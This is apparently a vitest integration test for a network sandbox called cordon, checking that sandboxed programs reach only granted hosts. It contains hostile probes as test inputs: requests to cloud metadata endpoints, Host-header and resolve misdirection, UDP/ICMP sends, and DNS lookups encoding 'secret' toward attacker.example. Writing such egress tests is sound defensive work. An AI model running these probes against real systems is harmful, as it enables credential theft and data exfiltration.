import { destinationsOf, HttpSink, TestCa } from '@cordon/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Deployment, ordinaryUser, type Run } from '../support/deployment.ts';

const host = 'granted.example';
const below = 'a.wild.example';

/** Without any of the variables that programs read to find a proxy. */
const bare =
  'env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY -u https_proxy -u http_proxy -u all_proxy -u NODE_USE_ENV_PROXY';
const curl = `${bare} curl -sS -m 20 -w ' status %{http_code}\\n'`;

describe.each([
  ['root', 'hand-off'],
  ['ordinary', 'hand-off'],
  ['root', 'relay'],
  ['ordinary', 'relay'],
] as const)('programs that ignore the proxy, started by %s (%s)', (user, sockets) => {
  const as = user === 'ordinary' ? ordinaryUser : undefined;
  const weaker = as === undefined ? [] : ['--allow-weaker', 'cgroups'];
  const ca = new TestCa();
  let tls: HttpSink;
  let plain: HttpSink;
  let deployment: Deployment;

  beforeAll(async () => {
    tls = await HttpSink.start({ tls: ca.issue([host, below]), answer: () => ({ status: 200, body: 'granted' }) });
    plain = await HttpSink.start({ answer: () => ({ status: 200, body: 'plain' }) });
    const destinations = destinationsOf(
      { [host]: tls.port, [`${host}:8443`]: tls.port, [below]: tls.port, [`${host}:80`]: plain.port },
      ca,
    );
    deployment = await Deployment.start({ ...(as === undefined ? {} : { as }), destinations, sockets });
  });
  afterAll(async () => {
    await deployment[Symbol.asyncDispose]();
    for (const sink of [tls, plain]) await sink[Symbol.asyncDispose]();
  });

  const grants = [`${host}/open/**`, `${host}:8443/open/**`, `http://${host}/open/**`, '*.wild.example'];
  const sh = (script: string, allow: readonly string[] = grants): Promise<Run> =>
    deployment.sh(script, [...weaker, ...allow.flatMap((grant) => ['--allow', grant])]);

  it('reach what is granted, by its own name, on every granted port', async () => {
    const node = `fetch('https://${host}/open/node').then((r) => r.text()).then((t) => console.log('node', t))`;
    const python = `import urllib.request as u; print('python', u.build_opener(u.ProxyHandler({})).open('https://${host}/open/python').read().decode())`;
    const before = tls.requests.length;
    const run = await sh(`
      ${curl} --noproxy '*' https://${host}/open/curl
      ${curl} -4 https://${host}:8443/open/port
      ${curl} -6 https://${below}/open/below
      ${curl} http://${host}/open/plain
      ${bare} node -e "${node}"
      ${bare} python3 -c "${python}"
    `);
    expect(run.stdout.trim().split('\n'), run.stderr).toEqual([
      'granted status 200',
      'granted status 200',
      'granted status 200',
      'plain status 200',
      'node granted',
      'python granted',
    ]);
    expect(tls.requests.slice(before).map(({ target }) => target)).toEqual(
      ['curl', 'port', 'below', 'node', 'python'].map((name) => `/open/${name}`),
    );
    const logs = (await deployment.cordon(['logs'])).stdout;
    expect(logs).toContain(`allow GET https://${host}/open/curl 200`);
    expect(logs).toContain(`allow GET https://${host}:8443/open/port 200`);
    expect(logs).toContain(`allow GET https://${below}/open/below 200`);
  });

  it('are refused in words by whatever they speak', async () => {
    const before = tls.requests.length + plain.requests.length;
    const run = await sh(`
      ${curl} https://${host}/closed
      ${curl} http://169.254.169.254/latest/meta-data/
      ${curl} https://192.0.2.7/dns-query
      ${curl} 'https://[2001:db8::7]/'
      ${curl} 'http://[::ffff:169.254.169.254]/'
      ${curl} --connect-to ${host}:443:${below}:443 https://${host}/open/wrong-name
      ${curl} -H 'Host: other.example' http://${host}/open/wrong-host
      ${curl} --resolve other.example:443:192.0.2.7 https://other.example/
    `);
    const statuses = [...run.stdout.matchAll(/ status (\d+)/g)].map(([, status]) => status);
    expect(statuses, run.stdout + run.stderr).toEqual(['403', '403', '403', '403', '400', '421', '421', '421']);
    for (const word of [
      'no-grant',
      `cordon run --allow ${host}/closed`,
      'https://192.0.2.7/dns-query',
      'misdirected-request',
    ]) {
      expect(run.stdout).toContain(word);
    }
    expect(tls.requests.length + plain.requests.length).toBe(before);
  });

  it('find no name that no grant speaks of, and the session can read why', async () => {
    const run = await sh(`
      ${curl} https://c2VjcmV0.attacker.example/
      getent ahosts stolen.attacker.example || echo none
      getent ahosts metadata.google.internal
      ${curl} http://cordon.internal/denials
    `);
    expect(run.stderr).toContain('Could not resolve host');
    expect(run.stdout).toContain('none\n');
    expect(run.stdout).toContain('name-unknown');
    expect(run.stdout).toContain('--allow stolen.attacker.example');
    expect(run.stdout).toContain('no grant reaches it: metadata.google.internal');
    expect(run.stdout).not.toContain('--allow metadata');
  });

  it('cannot send anything that is no TCP, and their own servers still answer', async () => {
    const program = `
import socket, threading
def tell(name, act):
    try: print(name, act())
    except OSError: print(name, 'refused')
def send(to, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s: return s.sendto(b'quic', to)
tell('quic', lambda: send(('192.0.2.7', 443)))
tell('quic6', lambda: send(('2001:db8::7', 443), socket.AF_INET6))
tell('resolver', lambda: send(('192.0.2.53', 53)))
tell('mdns', lambda: send(('224.0.0.251', 5353)))
tell('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
def own(family, bound, to):
    server = socket.socket(family); server.bind((bound, 0)); server.listen()
    client = socket.create_connection((to, server.getsockname()[1]), 5)
    accepted, _ = server.accept(); accepted.sendall(b'own'); return client.recv(3).decode()
tell('v4', lambda: own(socket.AF_INET, '127.0.0.1', '127.0.0.1'))
tell('v6', lambda: own(socket.AF_INET6, '::1', '::1'))
tell('any', lambda: own(socket.AF_INET, '0.0.0.0', '127.0.0.2'))
tell('mapped', lambda: own(socket.AF_INET6, '::', '::ffff:127.0.0.1'))
tell('by name', lambda: own(socket.AF_INET, '127.0.0.1', 'localhost'))
def datagrams(family, at):
    server = socket.socket(family, socket.SOCK_DGRAM); server.bind((at, 0))
    client = socket.socket(family, socket.SOCK_DGRAM); client.sendto(b'own', server.getsockname()); return server.recv(3).decode()
tell('udp4', lambda: datagrams(socket.AF_INET, '127.0.0.1'))
tell('udp6', lambda: datagrams(socket.AF_INET6, '::1'))
`;
    const run = await deployment.sh(`cat > p.py <<'END'\n${program}\nEND\npython3 p.py`, [
      ...weaker,
      '--workspace-mode',
      'proposal',
    ]);
    expect(run.stdout.trim().split('\n'), run.stderr).toEqual([
      ...['quic', 'quic6', 'resolver', 'mdns', 'ping'].map((name) => `${name} refused`),
      ...['v4', 'v6', 'any', 'mapped', 'by name', 'udp4', 'udp6'].map((name) => `${name} own`),
    ]);
  });

  it('get nothing from an address that another session was handed out', async () => {
    const first = await sh(`getent ahostsv4 ${below} | head -n 1`);
    const address = /^198\.1[89]\.\d+\.\d+/.exec(first.stdout)?.[0];
    expect(address).toBeDefined();
    const before = tls.requests.length;
    const second = await sh(
      `${curl} -k --resolve ${below}:443:${address} https://${below}/; ${curl} -k https://${address}/`,
      [`${host}/open/**`],
    );
    expect(second.stdout).toMatch(/misdirected-request.* status 421.*no-grant.* status 403/s);
    expect(tls.requests.length).toBe(before);
  });

  it('are told apart from what a session without capture would have', async () => {
    await sh('true');
    const { stdout } = await deployment.cordon(['ps', '--all', '--json']);
    const id = /"id":\s*"(ses_[a-z0-9]+)"/.exec(stdout)?.[1] ?? '';
    const shown = JSON.parse((await deployment.cordon(['show', id, '--json'])).stdout) as Record<string, unknown>;
    expect(shown['sandbox']).toMatchObject({ capture: 'redirect', sockets });
    expect((await deployment.cordon(['show', id])).stdout).toContain('capture: redirect');
    expect((await deployment.cordon(['show', id])).stdout).toContain(`sockets: ${sockets}`);
    expect((await deployment.cordon(['doctor'])).stdout).toMatch(/works +capture +redirect/);
    expect((await deployment.cordon(['doctor'])).stdout).toMatch(/works +hand-off/);
  });
});
